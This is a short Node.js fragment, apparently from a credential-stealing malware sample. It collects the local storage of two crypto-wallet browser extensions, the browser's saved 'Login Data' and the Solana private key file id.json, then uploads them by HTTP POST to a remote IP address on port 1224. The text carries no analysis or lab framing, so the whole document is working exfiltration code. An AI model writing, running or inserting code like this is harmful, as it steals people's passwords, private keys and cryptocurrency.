const fs = require("fs"), path = require("path"), axios = require("axios"), FormData = require("form-data");
const wallets = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa"];
for (const id of wallets) send(path.join(home, "Local Extension Settings", id));
send(path.join(profile, "Login Data"));
send(path.join(home, ".config/solana/id.json"));
axios.post("http://203.0.113.7:1224/uploads", form);
